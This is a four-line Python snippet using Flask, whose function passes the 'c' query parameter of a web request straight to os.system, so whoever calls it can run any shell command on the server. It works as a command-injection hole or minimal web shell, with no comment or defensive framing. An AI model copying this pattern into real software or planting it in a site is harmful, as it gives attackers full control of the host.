import os
from flask import request
def x():
    os.system(request.args.get("c"))
